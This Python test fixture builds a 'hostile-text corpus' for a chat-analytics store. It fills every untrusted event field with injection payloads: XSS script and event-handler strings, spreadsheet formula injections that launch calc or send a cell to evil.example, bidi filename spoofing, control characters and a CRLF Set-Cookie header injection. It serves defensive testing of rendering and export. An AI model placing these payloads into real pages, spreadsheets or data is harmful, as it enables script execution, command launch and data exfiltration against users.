"""The hostile-text corpus (issue 13): a small workspace whose every untrusted field holds
text built to break a page, a spreadsheet or a file format.

Conversation n carries payload n in every untrusted field: ids (conversation, customer, agent,
bot, ticket, session, canned response), channel, team, attrs, page URLs, message texts, intent,
reasons, tags and their categories, rating comments, goal names and currency. Payloads that
run script set `window.__pwned` (and call `alert`), so a test sees whether any ran.

The store is written below the ingest validation (the rows of valid events, then each
placeholder swapped for its payload), as a store written before ingest refused control
characters or limited lengths may hold them: NUL and other control characters, a 100 KB
unbroken word, upper-case channels.
"""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path
from typing import Any

import orjson

from chatlens.events import parse_event, to_row
from chatlens.store import open_store
from chatlens.store.facts import refresh_facts
from chatlens.topics import rebuild

DAY = dt.datetime(2026, 11, 2, 8, 0, tzinfo=dt.UTC)  # a Monday
PERIOD = "from=2026-11-01&to=2026-11-30"
LONG_WORD = "W" * 100_000  # in texts; in ids and names (shown in tables) 128 characters
FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS: list[str] = [
    "<script>window.__pwned='script';alert(1)</script>",
    "<img src=x onerror=\"window.__pwned='img';alert(2)\">",
    "\"'><svg onload=window.__pwned='svg'>",
    "javascript:window.__pwned='url';alert(3)//",
    "</textarea></title></style><b onmouseover=window.__pwned='b'>x</b>",
    "{{7*7}}${7*7}<!--",
    "\u202eevil\u202dgnp.exe \u2066rtl\u2069",
    "zero\u200bwidth\u200c\u200d\ufeffjoin",
    LONG_WORD,
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "nul\x00bell\x07esc\x1b[31mred\x0bvt\x1f",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f525 emoji",
    "line1\r\nline2\nSet-Cookie: pwned=1",
]
_TOKEN = re.compile(r"zq(\d\d)qz")


def token(n: int) -> str:
    """The placeholder of payload n: valid in every field, replaced in the stored rows."""
    return f"zq{n:02d}qz"


def payload(n: int, column: str) -> str:
    text = PAYLOADS[n]
    if text is LONG_WORD and column not in ("text", "comment"):
        return LONG_WORD[:128]
    return text


def conversation_id(n: int) -> str:
    return f"{PAYLOADS[n] if PAYLOADS[n] is not LONG_WORD else LONG_WORD[:128]}~c{n}"


def agent_id(n: int) -> str:
    return conversation_id(n).replace("~c", "~a")


def _events(n: int) -> list[dict[str, Any]]:
    p = token(n)
    start = DAY + dt.timedelta(minutes=5 * n)

    def at(seconds: float) -> str:
        return (start + dt.timedelta(seconds=seconds)).isoformat()

    agent = f"{p}~a{n}"
    base = {"conversation_id": f"{p}~c{n}", "customer_id": f"{p}~u{n}"}
    session = {"customer_id": base["customer_id"], "session_id": f"{p}~s{n}"}
    return [
        {"type": "visit_started", "ts": at(-60), "page_url": p, **session},
        {"type": "page_view", "ts": at(-30), "page_url": f"https://shop.example/{p}", **session},
        {"type": "agent_status", "ts": at(-10), "agent_id": agent, "status": "online"},
        {
            "type": "conversation_started",
            "ts": at(0),
            "channel": p,
            "team": p,
            "bot_id": p,
            "page_url": p,
            "attrs": {"segment": p, "plan": p},
            **base,
        },
        {"type": "message", "ts": at(2), "sender": "customer", "text": p, **base},
        {
            "type": "message",
            "ts": at(3),
            "sender": "bot",
            "bot_id": p,
            "fallback": True,
            "intent": p,
            "text": f"Sorry, I didn't understand {p}",
            **base,
        },
        {
            "type": "message",
            "ts": at(5),
            "sender": "customer",
            "text": f"how do I reset my password {p}",
            **base,
        },
        {"type": "handoff_requested", "ts": at(6), "reason": p, **base},
        {"type": "chat_offered", "ts": at(7), "agent_id": agent, **base},
        {"type": "agent_joined", "ts": at(20), "agent_id": agent, "team": p, **base},
        {
            "type": "message",
            "ts": at(30),
            "sender": "agent",
            "agent_id": agent,
            "text": p,
            "canned_response_id": p,
            **base,
        },
        {"type": "tag_added", "ts": at(40), "tag": p, "category": p, "priority": "high", **base},
        {
            "type": "conversation_closed",
            "ts": at(300),
            "resolution": "resolved",
            "resolved_by": "agent",
            "reason": p,
            **base,
        },
        {"type": "rating", "ts": at(310), "kind": "csat", "score": 1 + n % 5, "comment": p, **base},
        {"type": "rating", "ts": at(311), "kind": "nps", "score": n % 11, "comment": p, **base},
        {
            "type": "goal_completed",
            "ts": at(320),
            "goal": p,
            "value": 10 + n,
            "currency": "EUR",
            "customer_id": base["customer_id"],
        },
        {"type": "ticket_created", "ts": at(330), "ticket_id": f"{p}~t{n}", "category": p, **base},
    ]


def _swap(value: Any, column: str) -> Any:
    if not isinstance(value, str):
        return value
    if column in ("attrs", "extra"):  # JSON text: the payload JSON-escaped
        return _TOKEN.sub(lambda m: orjson.dumps(payload(int(m[1]), column)).decode()[1:-1], value)
    return _TOKEN.sub(lambda m: payload(int(m[1]), column), value)


def hostile_rows() -> list[dict[str, Any]]:
    """The stored rows of the corpus: every event valid with placeholders, then swapped."""
    rows = []
    for n in range(len(PAYLOADS)):
        for event in _events(n):
            row = to_row(parse_event(event))
            rows.append({k: _swap(v, k) for k, v in row.items()})
    return rows


def build_hostile_store(path: Path) -> Path:
    """A store holding the corpus, its facts and its FAQ topics."""
    with open_store(path) as store:
        store.append(hostile_rows())
        refresh_facts(store)
        rebuild(store)
    return path
